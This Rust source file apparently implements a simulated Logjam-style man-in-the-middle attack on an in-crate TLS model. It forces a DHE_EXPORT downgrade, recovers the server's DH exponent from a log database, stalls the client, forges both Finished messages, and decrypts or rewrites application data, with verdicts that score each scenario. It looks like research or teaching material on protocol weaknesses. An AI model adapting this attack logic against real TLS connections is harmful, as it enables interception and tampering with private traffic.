//! The man-in-the-middle: downgrades the hellos, solves the server's
//! exponent from a log db, stalls the client with warning alerts and forges
//! both Finished messages.
//!
//! Descent runs synchronously when the ServerKeyExchange is observed; its
//! result is released on the virtual clock once the charged cost has
//! elapsed.

use std::fmt;
use std::sync::Arc;

use num_bigint::BigUint;
use serde::Serialize;

use crate::dlog::{
    ic_descent_with, timed, DlogError, EngineOptions, LogDb, DEFAULT_DESCENT_BUDGET,
};
use crate::group_math::{dh_shared_secret, mod_exp, DhGroup, DhKeyPair};
use crate::tls::{
    alert, derive_keys, encode_message, open, seal, transcript_hash, verify_data, CipherSuiteId,
    ClientHello, Failure, FinishedLabel, HandshakeMessage, Rejection, ServerHello, SessionKeys,
    SessionState, TlsError,
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum Verdict {
    #[serde(rename = "SUCCESS")]
    Success,
    #[serde(rename = "DOWNGRADE_REJECTED")]
    DowngradeRejected,
    #[serde(rename = "CLIENT_REJECTED_SIGNATURE")]
    ClientRejectedSignature,
    #[serde(rename = "CLIENT_REJECTED_GROUP")]
    ClientRejectedGroup,
    #[serde(rename = "TIMEOUT")]
    Timeout,
    #[serde(rename = "NO_LOGDB")]
    NoLogdb,
    #[serde(rename = "DESCENT_EXHAUSTED")]
    DescentExhausted,
    /// Any other protocol failure; not expected in well-formed scenarios.
    #[serde(rename = "ABORTED")]
    Aborted,
}

impl Verdict {
    pub fn name(self) -> &'static str {
        match self {
            Verdict::Success => "SUCCESS",
            Verdict::DowngradeRejected => "DOWNGRADE_REJECTED",
            Verdict::ClientRejectedSignature => "CLIENT_REJECTED_SIGNATURE",
            Verdict::ClientRejectedGroup => "CLIENT_REJECTED_GROUP",
            Verdict::Timeout => "TIMEOUT",
            Verdict::NoLogdb => "NO_LOGDB",
            Verdict::DescentExhausted => "DESCENT_EXHAUSTED",
            Verdict::Aborted => "ABORTED",
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// How descent time is charged to the virtual clock.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CostModel {
    /// Measured wall time, 1 ms real = 1 ms virtual.
    Measured,
    Injected(u64),
}

#[derive(Debug, Clone)]
pub struct AttackerConfig {
    pub logdbs: Vec<Arc<LogDb>>,
    pub stall_interval_ms: u64,
    pub early_start_offset_ms: u64,
    pub cost: CostModel,
    pub descent_budget: u64,
    pub descent_seed: u64,
    pub workers: usize,
    /// Replacement plaintext forwarded to the server instead of the client's.
    pub modify: Option<Vec<u8>>,
}

impl AttackerConfig {
    /// Stall interval defaults to half the client's timeout.
    pub fn new(logdbs: Vec<Arc<LogDb>>, client_timeout_ms: u64) -> Self {
        AttackerConfig {
            logdbs,
            stall_interval_ms: (client_timeout_ms / 2).max(1),
            early_start_offset_ms: 0,
            cost: CostModel::Measured,
            descent_budget: DEFAULT_DESCENT_BUDGET,
            descent_seed: 0,
            workers: 1,
            modify: None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DescentStatus {
    NotStarted,
    NoLogDb,
    Running {
        /// Negative when a pre-warmed connection started before the run.
        started_at: i64,
        done_at: u64,
        result: Result<BigUint, DlogError>,
    },
    Solved {
        at: u64,
    },
    Exhausted {
        at: u64,
    },
    Inconsistent {
        at: u64,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PhaseRecord {
    pub tag: &'static str,
    pub time: u64,
    pub phase: &'static str,
    pub detail: String,
}

/// Which endpoint a message comes from or goes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Side {
    Client,
    Server,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackerEvent {
    FromClient(HandshakeMessage),
    FromServer(HandshakeMessage),
    Tick,
}

#[derive(Debug, Clone)]
pub struct AttackerState {
    pub config: AttackerConfig,
    /// Encoded handshake messages as the client sees them.
    pub client_view: Vec<Vec<u8>>,
    /// Encoded handshake messages as the server sees them.
    pub server_view: Vec<Vec<u8>>,
    pub client_random: Option<[u8; 32]>,
    pub server_random: Option<[u8; 32]>,
    pub server_suite: Option<CipherSuiteId>,
    pub p: Option<BigUint>,
    pub g: Option<BigUint>,
    pub ys: Option<BigUint>,
    pub yc: Option<BigUint>,
    pub logdb: Option<Arc<LogDb>>,
    pub descent: DescentStatus,
    pub descent_virtual_ms: Option<u64>,
    pub recovered_b: Option<BigUint>,
    pub keys: Option<SessionKeys>,
    pub captured_records: Vec<Vec<u8>>,
    pub recovered_plaintexts: Vec<Vec<u8>>,
    pub log: Vec<PhaseRecord>,
    held_records: Vec<Vec<u8>>,
    client_finished_seen: bool,
    client_aborted: bool,
    forged: bool,
    next_stall: Option<u64>,
}

/// Suites replaced by exactly `[DHE_EXPORT]`; everything else untouched.
pub fn downgrade_client_hello(mut m: ClientHello) -> ClientHello {
    m.suites = vec![CipherSuiteId::DheExport];
    m
}

/// Suite replaced by what the client expects; everything else untouched.
pub fn upgrade_server_hello(mut m: ServerHello, client_expects: CipherSuiteId) -> ServerHello {
    m.suite = client_expects;
    m
}

impl AttackerState {
    pub fn new(config: AttackerConfig) -> Self {
        AttackerState {
            config,
            client_view: Vec::new(),
            server_view: Vec::new(),
            client_random: None,
            server_random: None,
            server_suite: None,
            p: None,
            g: None,
            ys: None,
            yc: None,
            logdb: None,
            descent: DescentStatus::NotStarted,
            descent_virtual_ms: None,
            recovered_b: None,
            keys: None,
            captured_records: Vec::new(),
            recovered_plaintexts: Vec::new(),
            log: Vec::new(),
            held_records: Vec::new(),
            client_finished_seen: false,
            client_aborted: false,
            forged: false,
            next_stall: None,
        }
    }

    /// Earliest virtual time at which a Tick changes anything.
    pub fn next_wakeup(&self) -> Option<u64> {
        let descent = match &self.descent {
            DescentStatus::Running { done_at, .. } => Some(*done_at),
            _ => None,
        };
        let stall = if self.stalling() {
            self.next_stall
        } else {
            None
        };
        [descent, stall].into_iter().flatten().min()
    }

    pub fn handshake_forged(&self) -> bool {
        self.forged
    }

    fn stalling(&self) -> bool {
        self.client_finished_seen
            && !self.forged
            && !self.client_aborted
            && matches!(self.descent, DescentStatus::Running { .. })
    }

    fn note(&mut self, time: u64, phase: &'static str, detail: impl Into<String>) {
        let detail = detail.into();
        log::debug!(target: "mitm", "t={time} {phase}: {detail}");
        self.log.push(PhaseRecord {
            tag: "mitm",
            time,
            phase,
            detail,
        });
    }
}

fn push_encoded(view: &mut Vec<Vec<u8>>, m: &HandshakeMessage) {
    if let Ok(b) = encode_message(m) {
        view.push(b);
    }
}

/// `b` from descent must satisfy `g^b = Ys`; the shared value is `Yc^b`.
pub fn recover_session_keys(
    state: &AttackerState,
    b: &BigUint,
) -> Result<SessionKeys, AttackError> {
    let (Some(p), Some(g), Some(ys), Some(yc)) = (&state.p, &state.g, &state.ys, &state.yc) else {
        return Err(AttackError::MissingValues);
    };
    let (Some(cr), Some(sr)) = (state.client_random, state.server_random) else {
        return Err(AttackError::MissingValues);
    };
    if mod_exp(g, b, p).map_err(|_| AttackError::Inconsistent)? != *ys {
        return Err(AttackError::Inconsistent);
    }
    let group = DhGroup::assume_safe_prime(p.clone(), g.clone());
    let pair = DhKeyPair::from_secret(&group, b.clone()).map_err(|_| AttackError::Inconsistent)?;
    let shared = dh_shared_secret(&pair, yc, &group).map_err(|_| AttackError::Inconsistent)?;
    Ok(derive_keys(&shared, &cr, &sr))
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AttackError {
    #[error("session values not yet observed")]
    MissingValues,
    #[error("recovered exponent does not reproduce Ys; the log db is corrupt")]
    Inconsistent,
    #[error("session keys not recovered")]
    NoKeys,
    #[error(transparent)]
    Record(#[from] TlsError),
}

/// Opens a client-to-server record with the recovered keys.
pub fn decrypt_application_data(
    state: &AttackerState,
    record: &[u8],
) -> Result<Vec<u8>, AttackError> {
    let keys = state.keys.as_ref().ok_or(AttackError::NoKeys)?;
    Ok(open(&keys.client_write, record)?.1)
}

/// Re-seals `plaintext` under the same key and sequence number as `record`.
pub fn reencrypt_application_data(
    state: &AttackerState,
    record: &[u8],
    plaintext: &[u8],
) -> Result<Vec<u8>, AttackError> {
    let keys = state.keys.as_ref().ok_or(AttackError::NoKeys)?;
    let (seq, _) = open(&keys.client_write, record)?;
    Ok(seal(&keys.client_write, seq, plaintext))
}

type Outgoing = Vec<(Side, HandshakeMessage)>;

pub fn attacker_step(
    mut st: AttackerState,
    now: u64,
    event: AttackerEvent,
) -> (AttackerState, Outgoing) {
    let mut out = Vec::new();
    poll_descent(&mut st, now);
    match event {
        AttackerEvent::FromClient(m) => from_client(&mut st, now, m, &mut out),
        AttackerEvent::FromServer(m) => from_server(&mut st, now, m, &mut out),
        AttackerEvent::Tick => {}
    }
    if st.stalling() {
        let interval = st.config.stall_interval_ms.max(1);
        let mut due = st.next_stall.unwrap_or(now + interval);
        if due <= now {
            out.push((
                Side::Client,
                HandshakeMessage::WarningAlert {
                    code: alert::NO_RENEGOTIATION,
                },
            ));
            st.note(now, "stall", "warning alert to client");
            while due <= now {
                due += interval;
            }
        }
        st.next_stall = Some(due);
    }
    try_complete(&mut st, now, &mut out);
    (st, out)
}

fn from_client(st: &mut AttackerState, now: u64, m: HandshakeMessage, out: &mut Outgoing) {
    match m {
        HandshakeMessage::ClientHello(ch) => {
            push_encoded(
                &mut st.client_view,
                &HandshakeMessage::ClientHello(ch.clone()),
            );
            st.client_random = Some(ch.random);
            let offered: Vec<&str> = ch.suites.iter().map(|s| s.name()).collect();
            let down = HandshakeMessage::ClientHello(downgrade_client_hello(ch));
            push_encoded(&mut st.server_view, &down);
            st.note(
                now,
                "downgrade",
                format!(
                    "client offered [{}]; forwarding [DHE_EXPORT]",
                    offered.join(", ")
                ),
            );
            out.push((Side::Server, down));
        }
        m @ HandshakeMessage::ClientKeyExchange { .. } => {
            if let HandshakeMessage::ClientKeyExchange { public_value } = &m {
                st.yc = Some(BigUint::from_bytes_be(public_value));
            }
            push_encoded(&mut st.client_view, &m);
            push_encoded(&mut st.server_view, &m);
            st.note(now, "relay", "ClientKeyExchange captured");
            out.push((Side::Server, m));
        }
        m @ HandshakeMessage::Finished { .. } => {
            push_encoded(&mut st.client_view, &m);
            st.client_finished_seen = true;
            st.note(now, "hold", "client Finished withheld from server");
        }
        HandshakeMessage::ApplicationData { record } => {
            st.captured_records.push(record.clone());
            st.note(
                now,
                "capture",
                format!("client application data, {} bytes", record.len()),
            );
            if st.keys.is_some() {
                decrypt_captured(st, now);
            }
            if st.forged {
                forward_record(st, now, record, out);
            } else {
                st.held_records.push(record);
            }
        }
        m @ HandshakeMessage::FatalAlert { .. } => {
            st.client_aborted = true;
            st.note(now, "client-abort", "client sent a fatal alert");
            out.push((Side::Server, m));
        }
        m => {
            if m.kind().is_handshake() {
                push_encoded(&mut st.client_view, &m);
                push_encoded(&mut st.server_view, &m);
            }
            out.push((Side::Server, m));
        }
    }
}

fn from_server(st: &mut AttackerState, now: u64, m: HandshakeMessage, out: &mut Outgoing) {
    match m {
        HandshakeMessage::ServerHello(sh) => {
            push_encoded(
                &mut st.server_view,
                &HandshakeMessage::ServerHello(sh.clone()),
            );
            st.server_random = Some(sh.random);
            st.server_suite = Some(sh.suite);
            let expects = client_expected_suite(st);
            let chosen = sh.suite.name();
            let up = HandshakeMessage::ServerHello(upgrade_server_hello(sh, expects));
            push_encoded(&mut st.client_view, &up);
            st.note(
                now,
                "upgrade",
                format!("server chose {chosen}; client told {}", expects.name()),
            );
            out.push((Side::Client, up));
        }
        m @ HandshakeMessage::ServerKeyExchange(_) => {
            push_encoded(&mut st.client_view, &m);
            push_encoded(&mut st.server_view, &m);
            if let HandshakeMessage::ServerKeyExchange(ske) = &m {
                st.p = Some(ske.params.p_value());
                st.g = Some(ske.params.g_value());
                st.ys = Some(ske.params.ys_value());
            }
            launch_descent(st, now);
            out.push((Side::Client, m));
        }
        m @ HandshakeMessage::Finished { .. } => {
            push_encoded(&mut st.server_view, &m);
            st.note(now, "drop", "genuine server Finished dropped");
        }
        m => {
            if m.kind().is_handshake() {
                push_encoded(&mut st.client_view, &m);
                push_encoded(&mut st.server_view, &m);
            }
            out.push((Side::Client, m));
        }
    }
}

/// The client's own ClientHello decides what it expects to hear back.
fn client_expected_suite(st: &AttackerState) -> CipherSuiteId {
    st.client_view
        .first()
        .and_then(|b| crate::tls::decode_message(b).ok())
        .and_then(|m| match m {
            HandshakeMessage::ClientHello(ch) => ch.suites.iter().copied().max_by_key(|s| s.rank()),
            _ => None,
        })
        .unwrap_or(CipherSuiteId::DheStrong)
}

fn launch_descent(st: &mut AttackerState, now: u64) {
    let (p, g, ys) = (
        st.p.clone().expect("set"),
        st.g.clone().expect("set"),
        st.ys.clone().expect("set"),
    );
    let Some(db) = st
        .config
        .logdbs
        .iter()
        .find(|db| db.covers(&p, &g))
        .cloned()
    else {
        st.descent = DescentStatus::NoLogDb;
        st.note(
            now,
            "no-logdb",
            format!("no log db for p = 0x{}", p.to_str_radix(16)),
        );
        return;
    };
    let options = EngineOptions::with_workers(st.config.workers);
    let (result, wall) = timed(|| {
        ic_descent_with(
            &db,
            &ys,
            st.config.descent_seed,
            st.config.descent_budget,
            &options,
        )
    });
    let cost = match st.config.cost {
        CostModel::Measured => wall.as_millis() as u64,
        CostModel::Injected(ms) => ms,
    };
    let started_at = now as i64 - st.config.early_start_offset_ms as i64;
    let done_at = (now + cost)
        .saturating_sub(st.config.early_start_offset_ms)
        .max(now);
    st.descent_virtual_ms = Some(cost);
    st.note(
        now,
        "descent-start",
        format!("started at t={started_at}, charged {cost} ms, completes at t={done_at}"),
    );
    st.logdb = Some(db);
    st.descent = DescentStatus::Running {
        started_at,
        done_at,
        result: result.map(|(x, _)| x),
    };
}

fn poll_descent(st: &mut AttackerState, now: u64) {
    let DescentStatus::Running {
        done_at, result, ..
    } = &st.descent
    else {
        return;
    };
    if *done_at > now {
        return;
    }
    let at = *done_at;
    match result.clone() {
        Ok(b) => {
            st.note(now, "descent-done", format!("b = 0x{}", b.to_str_radix(16)));
            st.recovered_b = Some(b);
            st.descent = DescentStatus::Solved { at };
        }
        Err(e) => {
            st.note(now, "descent-exhausted", e.to_string());
            st.descent = DescentStatus::Exhausted { at };
        }
    }
}

fn decrypt_captured(st: &mut AttackerState, now: u64) {
    while st.recovered_plaintexts.len() < st.captured_records.len() {
        let record = st.captured_records[st.recovered_plaintexts.len()].clone();
        match decrypt_application_data(st, &record) {
            Ok(pt) => {
                st.note(
                    now,
                    "decrypt",
                    format!("{} plaintext bytes recovered", pt.len()),
                );
                st.recovered_plaintexts.push(pt);
            }
            Err(e) => {
                st.note(now, "decrypt-failed", e.to_string());
                break;
            }
        }
    }
}

fn forward_record(st: &mut AttackerState, now: u64, record: Vec<u8>, out: &mut Outgoing) {
    let record = match st.config.modify.clone() {
        Some(replacement) => match reencrypt_application_data(st, &record, &replacement) {
            Ok(r) => {
                st.note(
                    now,
                    "modify",
                    "application data re-encrypted with altered plaintext",
                );
                r
            }
            Err(_) => record,
        },
        None => record,
    };
    out.push((Side::Server, HandshakeMessage::ApplicationData { record }));
}

fn try_complete(st: &mut AttackerState, now: u64, out: &mut Outgoing) {
    if st.keys.is_none() {
        if let (Some(b), Some(_)) = (st.recovered_b.clone(), &st.yc) {
            match recover_session_keys(st, &b) {
                Ok(keys) => {
                    st.keys = Some(keys);
                    st.note(now, "keys", "master secret recovered");
                    decrypt_captured(st, now);
                }
                Err(e) => {
                    st.note(now, "keys-failed", e.to_string());
                    st.descent = DescentStatus::Inconsistent { at: now };
                    st.recovered_b = None;
                }
            }
        }
    }
    if st.forged || st.client_aborted || !st.client_finished_seen {
        return;
    }
    let Some(keys) = st.keys.clone() else { return };
    let to_server = verify_data(
        &keys.master_secret,
        FinishedLabel::Client,
        &transcript_hash(&st.server_view),
    );
    let fin_server = HandshakeMessage::Finished {
        sealed: seal(&keys.client_write, 0, &to_server),
    };
    push_encoded(&mut st.server_view, &fin_server);
    out.push((Side::Server, fin_server));
    for record in std::mem::take(&mut st.held_records) {
        forward_record(st, now, record, out);
    }
    let to_client = verify_data(
        &keys.master_secret,
        FinishedLabel::Server,
        &transcript_hash(&st.client_view),
    );
    let fin_client = HandshakeMessage::Finished {
        sealed: seal(&keys.server_write, 0, &to_client),
    };
    push_encoded(&mut st.client_view, &fin_client);
    out.push((Side::Client, fin_client));
    st.forged = true;
    st.note(now, "forge", "both Finished messages forged");
}

#[derive(Debug, Clone, Serialize)]
pub struct AttackOutcome {
    pub verdict: Verdict,
    pub descent_virtual_ms: Option<u64>,
    #[serde(serialize_with = "hex_list")]
    pub recovered_plaintexts: Vec<Vec<u8>>,
    pub log: Vec<PhaseRecord>,
}

fn hex_list<S: serde::Serializer>(v: &[Vec<u8>], s: S) -> Result<S::Ok, S::Error> {
    s.collect_seq(v.iter().map(hex::encode))
}

/// Verdict from the final states. Earlier causes win: the server refusing
/// the downgraded hello, then the client's ServerKeyExchange checks
/// (signature before group), then the attacker's own failures, then the
/// client's deadline.
pub fn judge(client: &SessionState, server: &SessionState, attacker: &AttackerState) -> Verdict {
    if server.failure() == Some(&Failure::NoMutualSuite) {
        return Verdict::DowngradeRejected;
    }
    match client.failure() {
        Some(Failure::Rejected(Rejection::BadSignature)) => {
            return Verdict::ClientRejectedSignature
        }
        Some(Failure::Rejected(_)) => return Verdict::ClientRejectedGroup,
        _ => {}
    }
    match attacker.descent {
        DescentStatus::NoLogDb => return Verdict::NoLogdb,
        DescentStatus::Exhausted { .. } | DescentStatus::Inconsistent { .. } => {
            return Verdict::DescentExhausted
        }
        _ => {}
    }
    let master = attacker.keys.as_ref().map(|k| &k.master_secret);
    if client.is_established()
        && server.is_established()
        && master.is_some()
        && client.master_secret() == master
        && server.master_secret() == master
        && attacker.recovered_plaintexts == client.sent_plaintexts
    {
        return Verdict::Success;
    }
    if matches!(client.failure(), Some(Failure::Timeout { .. })) {
        return Verdict::Timeout;
    }
    Verdict::Aborted
}

impl AttackOutcome {
    pub fn from_states(
        client: &SessionState,
        server: &SessionState,
        attacker: &AttackerState,
    ) -> Self {
        AttackOutcome {
            verdict: judge(client, server, attacker),
            descent_virtual_ms: attacker.descent_virtual_ms,
            recovered_plaintexts: attacker.recovered_plaintexts.clone(),
            log: attacker.log.clone(),
        }
    }
}
